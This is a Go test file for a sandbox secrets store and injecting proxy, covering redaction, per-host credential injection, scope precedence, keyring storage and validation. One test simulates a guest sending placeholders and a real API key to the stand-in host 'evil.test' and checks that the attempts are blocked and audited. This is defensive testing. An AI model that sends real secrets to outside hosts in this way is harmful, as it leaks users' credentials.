package secrets

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

const testValue = "sk-test-0123456789abcdef-SECRET"

func TestRedaction(t *testing.T) {
	s := New(testValue)
	type exported struct{ Key Secret }
	type unexported struct{ key Secret }
	var outs []string
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%d", "%10.3s"} {
		outs = append(outs, fmt.Sprintf(verb, s), fmt.Sprintf(verb, &s),
			fmt.Sprintf(verb, exported{s}), fmt.Sprintf(verb, unexported{s}), fmt.Sprintf(verb, []Secret{s}))
	}
	outs = append(outs, fmt.Sprint(s), fmt.Sprintln(s), s.String(), s.GoString())
	for _, h := range []func(io.Writer) slog.Handler{
		func(w io.Writer) slog.Handler { return slog.NewJSONHandler(w, nil) },
		func(w io.Writer) slog.Handler { return slog.NewTextHandler(w, nil) },
	} {
		var buf bytes.Buffer
		slog.New(h(&buf)).Info("msg", "secret", s, "group", exported{s}, slog.Any("any", s))
		outs = append(outs, buf.String())
	}
	for _, v := range []any{s, &s, exported{s}, map[string]Secret{"k": s}, map[Secret]int{s: 1}} {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		outs = append(outs, string(b))
	}
	if b, err := s.MarshalText(); err != nil || string(b) != Redacted {
		t.Errorf("MarshalText = %q, %v", b, err)
	}
	for _, o := range outs {
		if strings.Contains(o, testValue) || strings.Contains(o, "SECRET") {
			t.Errorf("value leaked: %q", o)
		}
	}
	if got := fmt.Sprintf("%v|%s|%#v", s, s, s); got != "[redacted]|[redacted]|[redacted]" {
		t.Errorf("got %q", got)
	}
	if s.Reveal() != testValue {
		t.Error("Reveal lost the value")
	}
}

func newTestStore(t *testing.T) *Store {
	t.Helper()
	return NewStore(Options{Dir: filepath.Join(t.TempDir(), "config")})
}

func mustSet(t *testing.T, st *Store, name, scope, value string) {
	t.Helper()
	if _, err := st.Set(name, scope, New(value)); err != nil {
		t.Fatal(err)
	}
}

func request(t *testing.T, method, u string, body io.Reader) *http.Request {
	t.Helper()
	r := httptest.NewRequestWithContext(t.Context(), method, u, body)
	r.RequestURI = ""
	return r
}

func TestServiceHeaders(t *testing.T) {
	basic := func(v string) string {
		return "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+v))
	}
	tests := []struct {
		name, service, value, url string
		in                        http.Header
		want                      http.Header // headers checked (empty string: absent)
		wantQuery                 string
	}{
		{name: "anthropic key", service: "anthropic", value: "sk-ant-api03-abc", url: "https://api.anthropic.com/v1/messages",
			in: http.Header{"X-Api-Key": {Sentinel}}, want: http.Header{"X-Api-Key": {"sk-ant-api03-abc"}, "Authorization": {""}}},
		{name: "anthropic key added", service: "anthropic", value: "sk-ant-api03-abc", url: "https://api.anthropic.com:443/v1/messages",
			want: http.Header{"X-Api-Key": {"sk-ant-api03-abc"}}},
		{name: "anthropic oauth", service: "anthropic", value: "sk-ant-oat01-xyz", url: "https://api.anthropic.com/v1/messages",
			in: http.Header{"X-Api-Key": {Sentinel}}, want: http.Header{"Authorization": {"Bearer sk-ant-oat01-xyz"}, "X-Api-Key": {""}}},
		{name: "anthropic oauth bearer sentinel", service: "anthropic", value: "sk-ant-oat01-xyz", url: "https://api.anthropic.com/v1/messages",
			in: http.Header{"Authorization": {"Bearer " + Sentinel}}, want: http.Header{"Authorization": {"Bearer sk-ant-oat01-xyz"}}},
		{name: "anthropic other host", service: "anthropic", value: "sk-ant-api03-abc", url: "https://example.com/",
			in: http.Header{"X-Api-Key": {Sentinel}}, want: http.Header{"X-Api-Key": {Sentinel}}},
		{name: "openai", service: "openai", value: "sk-proj-1", url: "https://api.openai.com/v1/chat",
			in: http.Header{"Authorization": {"Bearer " + Sentinel}}, want: http.Header{"Authorization": {"Bearer sk-proj-1"}}},
		{name: "github api", service: "github", value: "ghp_tok", url: "https://api.github.com/user",
			in: http.Header{"Authorization": {"token " + Sentinel}}, want: http.Header{"Authorization": {"Bearer ghp_tok"}}},
		{name: "github api added", service: "github", value: "ghp_tok", url: "https://api.github.com/user",
			want: http.Header{"Authorization": {"Bearer ghp_tok"}}},
		{name: "github git added", service: "github", value: "ghp_tok", url: "https://github.com/o/r.git/info/refs?service=git-receive-pack",
			want: http.Header{"Authorization": {basic("ghp_tok")}}},
		{name: "github git push", service: "github", value: "ghp_tok", url: "https://github.com/o/r.git/git-receive-pack",
			want: http.Header{"Authorization": {basic("ghp_tok")}}},
		{name: "github lfs", service: "github", value: "ghp_tok", url: "https://github.com/o/r.git/info/lfs/objects/batch",
			want: http.Header{"Authorization": {basic("ghp_tok")}}},
		{name: "github web not added", service: "github", value: "ghp_tok", url: "https://github.com/o/r",
			want: http.Header{"Authorization": {""}}},
		{name: "github web overwritten", service: "github", value: "ghp_tok", url: "https://github.com/o/r",
			in: http.Header{"Authorization": {"Basic eDpwcm94eS1tYW5hZ2Vk"}}, want: http.Header{"Authorization": {basic("ghp_tok")}}},
		{name: "github raw only overwritten", service: "github", value: "ghp_tok", url: "https://raw.githubusercontent.com/o/r/main/f",
			want: http.Header{"Authorization": {""}}},
		{name: "github raw present", service: "github", value: "ghp_tok", url: "https://raw.githubusercontent.com/o/r/main/f",
			in: http.Header{"Authorization": {"token " + Sentinel}}, want: http.Header{"Authorization": {"Bearer ghp_tok"}}},
		{name: "google header", service: "google", value: "AIzaKEY", url: "https://generativelanguage.googleapis.com/v1beta/models",
			in: http.Header{"X-Goog-Api-Key": {Sentinel}}, want: http.Header{"X-Goog-Api-Key": {"AIzaKEY"}}},
		{name: "google query key moved", service: "google", value: "AIzaKEY", url: "https://generativelanguage.googleapis.com/v1beta/models?key=proxy-managed&alt=sse",
			want: http.Header{"X-Goog-Api-Key": {"AIzaKEY"}}, wantQuery: "alt=sse"},
		{name: "groq", service: "groq", value: "gsk_1", url: "https://api.groq.com/openai/v1/x", want: http.Header{"Authorization": {"Bearer gsk_1"}}},
		{name: "mistral", service: "mistral", value: "m1", url: "https://api.mistral.ai/v1/x", want: http.Header{"Authorization": {"Bearer m1"}}},
		{name: "xai", service: "xai", value: "xai-1", url: "https://api.x.ai/v1/x", want: http.Header{"Authorization": {"Bearer xai-1"}}},
		{name: "openrouter present", service: "openrouter", value: "sk-or-1", url: "https://openrouter.ai/api/v1/chat",
			in: http.Header{"Authorization": {"Bearer " + Sentinel}}, want: http.Header{"Authorization": {"Bearer sk-or-1"}}},
		{name: "openrouter absent", service: "openrouter", value: "sk-or-1", url: "https://openrouter.ai/models",
			want: http.Header{"Authorization": {""}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			st := newTestStore(t)
			mustSet(t, st, tc.service, "", tc.value)
			in := NewInjector(st, "sb1", nil, nil)
			r := request(t, http.MethodGet, tc.url, nil)
			for k, vs := range tc.in {
				r.Header[k] = vs
			}
			in.ModifyRequest(r)
			for k, vs := range tc.want {
				if got := r.Header.Get(k); got != vs[0] {
					t.Errorf("%s = %q, want %q", k, got, vs[0])
				}
			}
			if tc.wantQuery != "" && r.URL.RawQuery != tc.wantQuery {
				t.Errorf("query = %q, want %q", r.URL.RawQuery, tc.wantQuery)
			}
		})
	}
}

func TestIntercept(t *testing.T) {
	st := newTestStore(t)
	mustSet(t, st, "github", "", "ghp_x")
	if _, err := st.SetCustom(Custom{Env: "MY_TOKEN", Hosts: []string{"API.Example.com.", "b.test:8443"}}, New("v-value-1234")); err != nil {
		t.Fatal(err)
	}
	in := NewInjector(st, "sb1", nil, nil)
	for host, want := range map[string]bool{
		"api.github.com": true, "github.com": true, "GitHub.com.": true, "raw.githubusercontent.com": true,
		"objects.githubusercontent.com": false, "api.example.com": true, "b.test": true, "c.test": false, "api.openai.com": false,
	} {
		if got := in.Intercept(host, 443); got != want {
			t.Errorf("Intercept(%s) = %v, want %v", host, got, want)
		}
	}
	// anthropic's variant decides nothing about hosts, but both go to the same host.
	mustSet(t, st, "anthropic", "", "sk-ant-oat01-x")
	if !in.Intercept("api.anthropic.com", 443) {
		t.Error("change not picked up without a restart")
	}
}

func TestCustomPlaceholder(t *testing.T) {
	st := newTestStore(t)
	e, err := st.SetCustom(Custom{Env: "MY_TOKEN", Hosts: []string{"api.example.com"}}, New("real/val&ue"))
	if err != nil {
		t.Fatal(err)
	}
	ph := e.Placeholder
	if !strings.HasPrefix(ph, PlaceholderPrefix) || len(ph) != len(PlaceholderPrefix)+32 {
		t.Fatalf("placeholder %q", ph)
	}
	env, err := st.GuestEnv("sb1")
	if err != nil || !cmp.Equal(env, []string{"MY_TOKEN=" + ph}) {
		t.Fatalf("GuestEnv = %v, %v", env, err)
	}
	// Setting again keeps the placeholder (running guests hold it).
	e2, err := st.SetCustom(Custom{Env: "MY_TOKEN", Hosts: []string{"api.example.com"}}, New("real/val&ue"))
	if err != nil || e2.Placeholder != ph {
		t.Fatalf("placeholder changed on re-set: %q → %q (%v)", ph, e2.Placeholder, err)
	}
	in := NewInjector(st, "sb1", nil, nil)

	body := `{"token":"` + ph + `","again":"` + ph + `"}`
	r := request(t, http.MethodPost, "https://api.example.com/p/"+ph+"?t="+ph+"&x=1", strings.NewReader(body))
	r.Header.Set("X-Token", "tok "+ph)
	r.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("git:"+ph)))
	in.ModifyRequest(r)
	got, _ := io.ReadAll(r.Body)
	want := `{"token":"real/val&ue","again":"real/val&ue"}`
	if string(got) != want {
		t.Errorf("body = %q, want %q", got, want)
	}
	if r.ContentLength != int64(len(want)) {
		t.Errorf("ContentLength = %d, want %d", r.ContentLength, len(want))
	}
	if r.Header.Get("X-Token") != "tok real/val&ue" {
		t.Errorf("X-Token = %q", r.Header.Get("X-Token"))
	}
	if u, p, _ := basicCredentials(r.Header.Get("Authorization")); u != "git" || p != "real/val&ue" {
		t.Errorf("basic = %q:%q", u, p)
	}
	// Never in the URL: a server echoing it would hand the value to the guest.
	if strings.Contains(r.URL.String(), "real") || r.URL.Query().Get("x") != "1" {
		t.Errorf("url = %s, want the placeholder left in place", r.URL)
	}
	if gb, err := r.GetBody(); err != nil {
		t.Error(err)
	} else if b, _ := io.ReadAll(gb); string(b) != want {
		t.Errorf("GetBody = %q", b)
	}

	// A body over the limit passes unchanged, and that is logged.
	var logs bytes.Buffer
	in = NewInjector(st, "sb1", slog.New(slog.NewTextHandler(&logs, nil)), nil)
	big := strings.Repeat("a", MaxBodyBytes) + ph
	for _, known := range []bool{true, false} {
		logs.Reset()
		r = request(t, http.MethodPost, "https://api.example.com/upload", strings.NewReader(big))
		if !known {
			r.ContentLength = -1
		}
		in.ModifyRequest(r)
		got, _ = io.ReadAll(r.Body)
		if string(got) != big {
			t.Errorf("known length %v: large body changed (len %d)", known, len(got))
		}
		if !strings.Contains(logs.String(), "over the placeholder limit") {
			t.Errorf("known length %v: not logged: %q", known, logs.String())
		}
	}
}

func TestExfiltrationNotes(t *testing.T) {
	st := newTestStore(t)
	e, err := st.SetCustom(Custom{Env: "MY_TOKEN", Hosts: []string{"api.example.com"}}, New("custom-real-value"))
	if err != nil {
		t.Fatal(err)
	}
	mustSet(t, st, "openai", "", testValue)
	var mu sync.Mutex
	var notes []AuditNote
	var logs bytes.Buffer
	in := NewInjector(st, "sb1", slog.New(slog.NewJSONHandler(&logs, nil)), func(n AuditNote) {
		mu.Lock()
		notes = append(notes, n)
		mu.Unlock()
	})
	// Placeholder in a header to another host: unchanged, one note.
	r := request(t, http.MethodGet, "https://evil.test/x", nil)
	r.Header.Set("X-Leak", e.Placeholder)
	in.ModifyRequest(r)
	if r.Header.Get("X-Leak") != e.Placeholder {
		t.Error("placeholder replaced for a foreign host")
	}
	// Placeholder in a streamed body, split across reads: unchanged, noted.
	body := io.MultiReader(strings.NewReader("xx"+e.Placeholder[:10]), strings.NewReader(e.Placeholder[10:]+"yy"))
	r = request(t, http.MethodPost, "https://evil.test/x", body)
	r.ContentLength = -1
	if err := in.ModifyRequest(r); err != nil {
		t.Fatal(err)
	}
	got, _ := io.ReadAll(r.Body)
	if string(got) != "xx"+e.Placeholder+"yy" {
		t.Errorf("body changed: %q", got)
	}
	// A real value in the query of a request to another host: blocked.
	r = request(t, http.MethodGet, "https://evil.test/x?k="+testValue, nil)
	var be *BlockedError
	if err := in.ModifyRequest(r); !errors.As(err, &be) || be.Where != "url" {
		t.Errorf("real value in the query: err = %v, want a block in the url", err)
	}
	// The openai value in a body to another secret's host: blocked while
	// streaming, before the value's bytes pass.
	// (Here the body is read at once, for the bound placeholder.)
	r = request(t, http.MethodPost, "https://api.example.com/x", strings.NewReader("k="+testValue))
	got = nil
	if err = in.ModifyRequest(r); err == nil {
		got, err = io.ReadAll(r.Body)
	}
	if !errors.As(err, &be) || strings.Contains(string(got), testValue) {
		t.Errorf("real value in a body: read %q, %v; want a block before the value", got, err)
	}

	mu.Lock()
	defer mu.Unlock()
	type key struct{ Host, Secret, Kind, Where string }
	var gotKeys []key
	for _, n := range notes {
		gotKeys = append(gotKeys, key{n.Host, n.Secret, n.Kind, n.Where})
	}
	want := []key{
		{"evil.test", "MY_TOKEN", NotePlaceholder, "header X-Leak"},
		{"evil.test", "MY_TOKEN", NotePlaceholder, "body"},
		{"evil.test", "openai", NoteValue, "url"},
		{"api.example.com", "openai", NoteValue, "body"},
	}
	if diff := cmp.Diff(want, gotKeys); diff != "" {
		t.Errorf("notes (-want +got):\n%s", diff)
	}
	for _, n := range notes {
		all := fmt.Sprintf("%+v %s", n, n.Reason())
		if strings.Contains(all, testValue) || strings.Contains(all, "custom-real-value") {
			t.Errorf("note carries a value: %s", all)
		}
	}
	if strings.Contains(logs.String(), testValue) || strings.Contains(logs.String(), "custom-real-value") {
		t.Errorf("log carries a value: %s", logs.String())
	}
}

func TestScopePrecedence(t *testing.T) {
	st := newTestStore(t)
	mustSet(t, st, "openai", "", "global-key")
	mustSet(t, st, "openai", "sb1", "sandbox-key")
	mustSet(t, st, "groq", "sb2", "groq-sb2")
	check := func(sb, wantOpenAI string, wantGroq bool) {
		t.Helper()
		in := NewInjector(st, sb, nil, nil)
		r := request(t, http.MethodGet, "https://api.openai.com/v1", nil)
		in.ModifyRequest(r)
		if got := r.Header.Get("Authorization"); got != "Bearer "+wantOpenAI {
			t.Errorf("%s: openai = %q, want %q", sb, got, "Bearer "+wantOpenAI)
		}
		if got := in.Intercept("api.groq.com", 443); got != wantGroq {
			t.Errorf("%s: groq intercept = %v", sb, got)
		}
	}
	check("sb1", "sandbox-key", false)
	check("sb2", "global-key", true)
	check("sb3", "global-key", false)

	env, _ := st.GuestEnv("sb2")
	if !cmp.Equal(env, []string{"GROQ_API_KEY=" + Sentinel, "OPENAI_API_KEY=" + Sentinel}) {
		t.Errorf("GuestEnv(sb2) = %v", env)
	}
	if n, err := st.RemoveSandbox("sb1"); err != nil || n != 1 {
		t.Fatalf("RemoveSandbox = %d, %v", n, err)
	}
	check("sb1", "global-key", false)
	if _, err := st.Remove("openai", "sb1"); !errors.Is(err, ErrNotFound) {
		t.Errorf("Remove after RemoveSandbox: %v, want ErrNotFound", err)
	}
	if _, err := st.Remove("openai", ""); err != nil {
		t.Fatal(err)
	}
	if in := NewInjector(st, "sb3", nil, nil); in.Intercept("api.openai.com", 443) {
		t.Error("removed secret still applies")
	}
}

func TestOAuthGuestEnv(t *testing.T) {
	st := newTestStore(t)
	mustSet(t, st, "anthropic", "", "sk-ant-oat01-abc")
	mustSet(t, st, "github", "", "ghp_1")
	mustSet(t, st, "google", "", "AIza1")
	env, err := st.GuestEnv("")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"CLAUDE_CODE_OAUTH_TOKEN=proxy-managed", "GH_TOKEN=proxy-managed", "GITHUB_TOKEN=proxy-managed",
		"GEMINI_API_KEY=proxy-managed", "GOOGLE_API_KEY=proxy-managed"}
	if diff := cmp.Diff(want, env); diff != "" {
		t.Errorf("GuestEnv (-want +got):\n%s", diff)
	}
}

func TestStorePermissions(t *testing.T) {
	conf := filepath.Join(t.TempDir(), "config")
	if err := os.MkdirAll(filepath.Join(conf, "secrets"), 0o755); err != nil {
		t.Fatal(err)
	}
	st := NewStore(Options{Dir: conf})
	mustSet(t, st, "openai", "", testValue)
	for path, want := range map[string]os.FileMode{st.Dir(): 0o700 | os.ModeDir, st.Path(): 0o600} {
		fi, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode() != want {
			t.Errorf("%s mode %v, want %v", path, fi.Mode(), want)
		}
	}
	ents, _ := os.ReadDir(st.Dir())
	for _, e := range ents {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temp file left: %s", e.Name())
		}
	}
}

// fakeKeyring is an in-memory Secret Service.
type fakeKeyring struct {
	mu    sync.Mutex
	items map[string]string // guarded by mu
	calls int               // guarded by mu
}

func (k *fakeKeyring) Get(service, user string) (string, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.calls++
	v, ok := k.items[service+"|"+user]
	if !ok {
		return "", ErrNotFound
	}
	return v, nil
}

func (k *fakeKeyring) Set(service, user, value string) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.calls++
	if k.items == nil {
		k.items = map[string]string{}
	}
	k.items[service+"|"+user] = value
	return nil
}

func (k *fakeKeyring) Delete(service, user string) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.calls++
	delete(k.items, service+"|"+user)
	return nil
}

func TestKeyringBackend(t *testing.T) {
	conf := t.TempDir()
	kr := &fakeKeyring{}
	st := NewStore(Options{Dir: conf, Keyring: kr})
	mustSet(t, st, "openai", "sb1", testValue)
	data, err := os.ReadFile(st.Path())
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(data, []byte(testValue)) {
		t.Error("keyring backend wrote the value to the index")
	}
	if !bytes.Contains(data, []byte(`"keyring": true`)) {
		t.Errorf("index does not say where the value is: %s", data)
	}
	ls, err := st.List()
	if err != nil || len(ls) != 1 || ls[0].Name != "openai" || ls[0].Scope != "sb1" || !ls[0].InKeyring || ls[0].SetAt.IsZero() {
		t.Fatalf("List = %+v, %v", ls, err)
	}
	bs, err := st.Effective("sb1")
	if err != nil || len(bs) != 1 || bs[0].Value.Reveal() != testValue {
		t.Fatalf("Effective = %v, %v", bs, err)
	}
	// A file-backed store (SBX_HOME set) never calls the keyring and reports
	// the value as unavailable rather than guessing.
	fileStore := NewStore(Options{Dir: conf})
	if _, err := fileStore.Effective("sb1"); !errors.Is(err, ErrKeyringUnavailable) {
		t.Errorf("file store reading a keyring entry: %v", err)
	}
	if n, err := st.RemoveSandbox("sb1"); err != nil || n != 1 {
		t.Fatalf("RemoveSandbox = %d, %v", n, err)
	}
	if len(kr.items) != 0 {
		t.Errorf("keyring items left: %d", len(kr.items))
	}
}

func TestFileBackendNeverCallsKeyring(t *testing.T) {
	// Options.Keyring nil is the file store: values in the 0600 file.
	st := newTestStore(t)
	if st.UsesKeyring() {
		t.Fatal("UsesKeyring with no keyring")
	}
	mustSet(t, st, "xai", "", testValue)
	data, _ := os.ReadFile(st.Path())
	if !bytes.Contains(data, []byte(testValue)) {
		t.Error("file backend did not store the value")
	}
}

func TestValidation(t *testing.T) {
	st := newTestStore(t)
	_, err := st.SetCustom(Custom{Env: "1BAD", Hosts: []string{"https://x.test/a", "*.x.test"}}, New("v"))
	for _, want := range []string{`"1BAD"`, `"https://x.test/a"`, `"*.x.test"`} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v does not name %s", err, want)
		}
	}
	if _, err := st.SetCustom(Custom{Env: "OPENAI_API_KEY", Hosts: []string{"x.test"}}, New("v")); !errors.Is(err, ErrInvalid) {
		t.Errorf("built-in variable accepted: %v", err)
	}
	if _, err := st.Set("nosuch", "", New("v")); !errors.Is(err, ErrUnknownService) {
		t.Errorf("unknown service: %v", err)
	}
	_, err = st.Set("openai", "", New("line\nbreak-"+testValue))
	if !errors.Is(err, ErrInvalid) || strings.Contains(err.Error(), testValue) {
		t.Errorf("bad value: %v", err)
	}
	// A corrupt file: the error names the file, never its content.
	if err := os.MkdirAll(st.Dir(), 0o700); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(st.Path(), []byte(`{"version":1,"entries":[{"name":"openai","value":"`+testValue+`"`), 0o600)
	if _, err := st.List(); err == nil || strings.Contains(err.Error(), testValue) {
		t.Errorf("corrupt file: %v", err)
	}
}

func TestConcurrentWriters(t *testing.T) {
	st := newTestStore(t)
	var wg sync.WaitGroup
	for i := range 20 {
		wg.Go(func() {
			if _, err := st.SetCustom(Custom{Env: "V" + strconv.Itoa(i), Hosts: []string{"x.test"}}, New("v-value-1234")); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	ls, err := st.List()
	if err != nil || len(ls) != 20 {
		t.Fatalf("List: %d entries, %v", len(ls), err)
	}
}

// A custom value too short to be told from ordinary text is refused:
// its echo could be neither scrubbed nor caught (second outside review).
func TestShortCustomValueRefused(t *testing.T) {
	st := newTestStore(t)
	_, err := st.SetCustom(Custom{Env: "PIN", Hosts: []string{"api.test"}}, New("hunter2"))
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "at least 8 bytes") {
		t.Fatalf("SetCustom of a 7-byte value: %v", err)
	}
	if strings.Contains(err.Error(), "hunter2") {
		t.Fatalf("the error carries the value: %v", err)
	}
	if _, err := st.SetCustom(Custom{Env: "PIN", Hosts: []string{"api.test"}}, New("hunter22")); err != nil {
		t.Fatalf("SetCustom of an 8-byte value: %v", err)
	}
}
